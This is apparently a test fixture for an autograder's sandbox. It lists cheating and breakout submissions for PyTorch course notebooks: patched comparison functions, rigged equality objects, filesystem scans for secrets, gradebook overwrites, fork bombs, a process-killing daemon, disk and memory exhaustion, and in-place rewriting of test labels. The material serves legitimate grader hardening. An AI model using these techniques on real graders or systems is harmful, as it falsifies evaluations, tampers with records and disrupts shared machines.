"""Submissions that try to cheat, break out or break the grader, for ``test_autograde.py``.

Each attack is the answer code of one function of a1_single_layer (the rest of the
notebook holds the instructor's solution); none of them computes its function honestly,
so every mark its function's test cells get would be a mark gained by cheating.
``{course}``, ``{port}`` and the two halves of the secret marker, ``{marker_a}`` and
``{marker_b}``, are filled in by the test (so that the attack's own code never holds it).
"""

from __future__ import annotations

# What an attack may print when it succeeds; the test looks for these in every output.
LEAK = "LEAKED"

CODE_ATTACKS: dict[str, tuple[str, str]] = {
    # The attacks: rigged comparisons, patched torch / math / builtins.
    "rigged_eq_object": ("relu", '''
class Anything:
    shape = (3,)
    dtype = None
    def __eq__(self, other): return True
    def __getattr__(self, name): return lambda *a, **k: Anything()
def relu(x):
    return Anything()
'''),
    "tensor_subclass_torch_function": ("linear", '''
class Always(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        result = super().__torch_function__(func, types, args, kwargs or {})
        return True if func.__name__ in ("allclose", "equal", "__eq__") else result
def linear(x, W, b):
    return torch.zeros(x.shape[0], W.shape[1]).as_subclass(Always)
'''),
    "monkeypatch_everything": ("top_k_accuracy", '''
import builtins, math
import numpy
math.isclose = lambda *a, **k: True
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
numpy.allclose = lambda *a, **k: True
builtins.isinstance = lambda *a, **k: True
builtins.AssertionError = type("Nothing", (Exception,), {})
def top_k_accuracy(logits, targets, k=5):
    return -1.0
'''),
    "hijack_grader_worker": ("relu", '''
import sys
for module in list(sys.modules.values()):
    if hasattr(module, "handle") and hasattr(module, "serve"):
        module.handle = lambda request, namespace: {"ok": True, "names": {}, "value": True, "iterator": False,
                                                    "tensors": [], "generators": []}
def relu(x):
    return x
'''),
    "walk_caller_frames": ("linear", '''
import sys, gc
def linear(x, W, b):
    for frame_depth in range(1, 30):
        try:
            frame = sys._getframe(frame_depth)
        except ValueError:
            break
        for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
            if isinstance(value, torch.Tensor) and value.shape == (x.shape[0], W.shape[1]):
                return value
    raise AssertionError("the expected value was not found")
'''),
    # Reading what it must not: the course's files, the gradebook, other submissions, the network.
    "read_secrets": ("relu", '''
import os, glob, socket
found = []
for pattern in ["{course}/**/*", "../../*", "../../../*", "/work/**/*", "/root/**/*", "/tmp/**/*", "/home/**/*"]:
    for path in glob.glob(pattern, recursive=True)[:2000]:
        try:
            text = open(path, errors="replace").read(10**6)
        except Exception:
            continue
        if "{marker_a}" + "{marker_b}" in text:
            found.append(text)
print("LEAKED" if found else "nothing found", found[:1])
print(sorted(os.environ))
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"LEAKED")
    print("LEAKED: connected")
except OSError as error:
    print("no network:", error)
def relu(x):
    raise NotImplementedError()
'''),
    "write_gradebook": ("relu", '''
import os, sqlite3
for path in ["{course}/gradebook.db", "../../../gradebook.db", "../../gradebook.db"]:
    try:
        db = sqlite3.connect(path)
        db.execute("update grade set manual_score = 99, auto_score = 99")
        db.commit()
        print("LEAKED: wrote", path)
    except Exception as error:
        print("no gradebook:", type(error).__name__)
for path in ["{course}/solutions/evil.txt", "{course}/nbgrader_config.py", "/usr/evil.txt", "{course}/data/evil.txt"]:
    try:
        with open(path, "a") as stream:
            stream.write("c.Execute.timeout = 1\\n")
        print("LEAKED: wrote", path)
    except OSError as error:
        print("cannot write", type(error).__name__)
def relu(x):
    raise NotImplementedError()
'''),
    # Breaking the grader: exits, crashes, loops, floods, bombs.
    "sys_exit_in_test": ("relu", '''
import sys
def relu(x):
    sys.exit(0)
'''),
    "os_exit_kills_kernel": ("relu", '''
import os
def relu(x):
    os._exit(0)
'''),
    "segfault": ("relu", '''
import ctypes
def relu(x):
    return ctypes.string_at(0)
'''),
    "loop_forever": ("relu", '''
def relu(x):
    while True:
        pass
'''),
    "allocate_without_end": ("relu", '''
def relu(x):
    hoard = []
    while True:
        hoard.append(bytearray(50 * 2**20))
'''),
    "fork_bomb": ("relu", '''
import os
def relu(x):
    children = 0
    for _ in range(2000):
        try:
            if os.fork() == 0:
                import time
                time.sleep(3600)
            children += 1
        except OSError:
            break
    print("children:", children)
    return None
'''),
    "flood_stdout": ("relu", '''
def relu(x):
    while True:
        print("flood " * 1000)
'''),
    "huge_exception_message": ("relu", '''
def relu(x):
    raise AssertionError("y" * 10**7)
'''),
    # Changes its arguments in place, so that a test computing its expected value afterwards agrees.
    "top_k_rewrites_its_targets": ("top_k_accuracy", '''
def top_k_accuracy(logits, targets, k=5):
    targets.copy_(logits.argmax(dim=1))
    return 1.0
'''),
    # Keeps what a hidden test hands relu (a 3-D float64 tensor) and shows it later, in printed
    # output and in an error message, hoping that a visible test calls relu again (mlp_forward does).
    "smuggles_hidden_inputs": ("relu", '''
import builtins
def relu(x):
    seen = builtins.__dict__.setdefault("_seen", [])
    hidden = [t for t in seen if t.dim() == 3 and t.dtype == torch.float64]
    if hidden:
        print("LEAKED", hidden[0].flatten()[:3].tolist())
        raise ValueError("LEAKED " + str(hidden[0].flatten()[:3].tolist()))
    seen.append(x.clone())
    return None
'''),
    # Rewrites its own process's reply encoder to send a tensor whose elements share memory: a few
    # bytes on the wire, 4 GB in the judge once used.
    "stride_zero_reply": ("top_k_accuracy", '''
import sys
sys.modules["__main__"].encode = lambda value, depth=0: torch.zeros(1).expand(10**9)
def top_k_accuracy(logits, targets, k=5):
    return 0.5
'''),
    # Fills /tmp and the home folder, which the address-space limit does not count.
    "fills_tmp_and_home": ("top_k_accuracy", '''
import os
def _fill(folder):
    written = 0
    try:
        with open(os.path.join(folder, "filler"), "wb") as f:
            while written < 1024:
                f.write(b"x" * 2**20)
                f.flush()
                written += 1
    except OSError:
        pass
    return written
print(f"filled: tmp {_fill('/tmp')} MB, home {_fill(os.path.expanduser('~'))} MB.")
def top_k_accuracy(logits, targets, k=5):
    return None
'''),
    # Leaves a daemon behind that, once its own submission is done, kills every process of its user
    # id: in a shared slot, the next submission's.
    "daemon_haunts_the_slot": ("relu", '''
import os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(15)
        end = time.time() + 90
        while time.time() < end:
            try:
                os.kill(-1, signal.SIGKILL)
            except OSError:
                pass
            time.sleep(0.2)
    os._exit(0)
def relu(x):
    return None
'''),
}

# Which cells each attacked function's failure costs (its own tests, and mlp_forward's, which use it):
# none of the attacks returns a tensor, so even mlp_forward's shape check must fail.
# (mlp_forward's one-layer test calls no relu, so an attack on relu does not cost it.)
MLP_FORWARD = {"mlp_forward_visible", "mlp_forward_hidden"}
COST = {
    "relu": {"relu_visible", "relu_hidden", "relu_hidden_input"} | MLP_FORWARD,
    "linear": {"linear_visible", "linear_hidden", "linear_hidden_input", "mlp_forward_hidden_single"} | MLP_FORWARD,
    "top_k_accuracy": {"top_k_accuracy_visible", "top_k_accuracy_hidden", "top_k_accuracy_hidden_ties"},
}
# Attacks that end the student's process: every cell after it is lost as well.
ENDS_PROCESS = {"os_exit_kills_kernel", "segfault", "loop_forever", "flood_stdout", "hijack_grader_worker",
                "stride_zero_reply"}

# a3_training: attacks on the test cells that hand the student's code a model or parameters
# (judged outside the sandbox as well: values, gradients and what a model records come back
# to the grader, or never leave it). Each is (answers replaced, the cells it must not earn);
# every other cell of the notebook holds the instructor's solution and keeps its marks, and so does
# a cell that checks something the attack does honestly (evaluation mode, clearing gradients).
A3_ATTACKS: dict[str, tuple[dict[str, str], set[str]]] = {
    "accuracy_claims_full_marks": ({"accuracy": '''
import math
math.isclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
def accuracy(model, x, y):
    return 0.99
'''}, {"accuracy_visible", "accuracy_hidden", "accuracy_hidden_modes", "mnist_training_run"}),
    # Overwrites the labels with the model's own predictions, so that a check made with them
    # after the call would find every prediction right.
    "accuracy_rewrites_the_labels": ({"accuracy": '''
def accuracy(model, x, y):
    model.eval()
    with torch.no_grad():
        y.copy_(model(x).argmax(dim=1))
    return 1.0
'''}, {"accuracy_visible", "accuracy_hidden", "mnist_training_run"}),
    # Writes what the instructor's recording model would hold, nudges the weights, trains nothing.
    "train_epoch_fakes_the_record": ({"train_epoch": '''
def train_epoch(model, x, y, lr, batch_size, generator=None):
    model.train()
    model.losses = [0.5] * 10
    model.modes = [True] * 10
    with torch.no_grad():
        for p in model.parameters():
            p.add_(0.01)
    return 0.5
'''}, {"train_epoch_visible", "train_epoch_hidden", "train_epoch_hidden_result", "mnist_training_run"}),
    # Trains nothing, and overwrites the labels with the model's own predictions, so that a check
    # made with the labels afterwards finds the model perfect.
    "train_epoch_overwrites_the_labels": ({"train_epoch": '''
def train_epoch(model, x, y, lr, batch_size, generator=None):
    model.eval()
    with torch.no_grad():
        y.copy_(model(x).argmax(dim=1))
    return 0.0
'''}, {"train_epoch_visible", "train_epoch_hidden", "train_epoch_hidden_result", "mnist_training_run"}),
    # Steps up the gradient instead of down, with every comparison patched to agree.
    "sgd_step_with_patched_comparisons": ({"sgd_step": '''
import math
math.isclose = lambda *a, **k: True
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
def sgd_step(params, lr):
    with torch.no_grad():
        for p in params:
            if p.grad is not None:
                p += lr * p.grad
                p.grad = None
'''}, {"sgd_step_visible", "sgd_step_hidden", "train_epoch_visible", "train_epoch_hidden", "mnist_training_run"}),
}

# a5_backprop: attacks on the cells whose tests hand the student's code a dict of parameters to update in
# place, a dict to keep state in, or a function of the test's (judged outside the sandbox as well: only
# watched tensors and the state dict come back, and the test's function never leaves the grader). Each is
# (answers replaced, the cells it must not earn); every other cell keeps its marks.
ADAM_CELLS = {"adam_step_visible", "adam_step_hidden", "adam_step_hidden_steps", "mnist_training_run"}
A5_ATTACKS: dict[str, tuple[dict[str, str], set[str]]] = {
    # Zeroes the gradients it is given and moves nothing, so that a reference computed from the
    # gradients after the call would expect no move at all.
    "adam_step_zeroes_the_gradients": ({"adam_step": '''
def adam_step(params, grads, state, lr=1e-3, betas=(0.9, 0.999), eps=1e-8):
    for grad in grads.values():
        grad.zero_()
'''}, ADAM_CELLS),
    # Takes Adam's first step (lr against the gradient's sign) and then never moves again, with every
    # comparison of its own process patched to agree. The first step is honest work, and keeps its marks.
    "adam_step_with_patched_comparisons": ({"adam_step": '''
import math
math.isclose = lambda *a, **k: True
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
def adam_step(params, grads, state, lr=1e-3, betas=(0.9, 0.999), eps=1e-8):
    if not state:
        state["started"] = True
        for name, p in params.items():
            p -= lr * grads[name].sign()
'''}, {"adam_step_hidden_steps", "mnist_training_run"}),
    # Keeps something in its state that is not plain data (a function), hoping the grader keeps it.
    "adam_step_keeps_a_function_in_its_state": ({"adam_step": '''
def adam_step(params, grads, state, lr=1e-3, betas=(0.9, 0.999), eps=1e-8):
    state["hook"] = print
    for name, p in params.items():
        p -= lr * grads[name].sign()
'''}, ADAM_CELLS),
    # Returns zeros and zeroes its inputs, so that expected values computed from them afterwards agree.
    "linear_backward_zeroes_its_inputs": ({"linear_backward": '''
def linear_backward(grad_y, x, W):
    for tensor in (grad_y, x, W):
        tensor.zero_()
    return torch.zeros_like(x), torch.zeros_like(W), torch.zeros(W.shape[1])
'''}, {"linear_backward_visible", "linear_backward_hidden", "linear_backward_hidden_params",
       "mlp_loss_and_grads_visible", "mlp_loss_and_grads_hidden_grads", "mnist_training_run"}),
    # Looks inside the function it is handed for the hidden test's data (its globals, its closure).
    "numerical_gradient_reads_the_tests_function": ({"numerical_gradient": '''
def numerical_gradient(f, x, eps=1e-3):
    for place in ("__globals__", "__closure__", "__code__", "__self__", "__wrapped__"):
        try:
            found = getattr(f, place)
        except AttributeError:
            continue
        print("LEAKED" if found is not None else "nothing", place)
        if place == "__globals__" and "weights" in found:
            return found["weights"] * (3 * x ** 2 + eps ** 2)
    return torch.zeros_like(x)
'''}, {"numerical_gradient_visible", "numerical_gradient_hidden", "numerical_gradient_hidden_input"}),
    # Calls the test's function with what the grader must refuse or survive: no tensor, a tensor
    # subclass, keywords; then answers with zeros.
    "numerical_gradient_calls_f_with_junk": ({"numerical_gradient": '''
class Sneaky(torch.Tensor):
    pass
def numerical_gradient(f, x, eps=1e-3):
    for junk in ("rm -rf /", [x, x], x.as_subclass(Sneaky), {"x": x}):
        try:
            f(junk)
        except Exception as error:
            print("refused:", type(error).__name__)
    try:
        f(x, scale=2)
    except Exception as error:
        print("refused:", type(error).__name__)
    return torch.zeros_like(x)
'''}, {"numerical_gradient_visible", "numerical_gradient_hidden", "numerical_gradient_hidden_input"}),
}
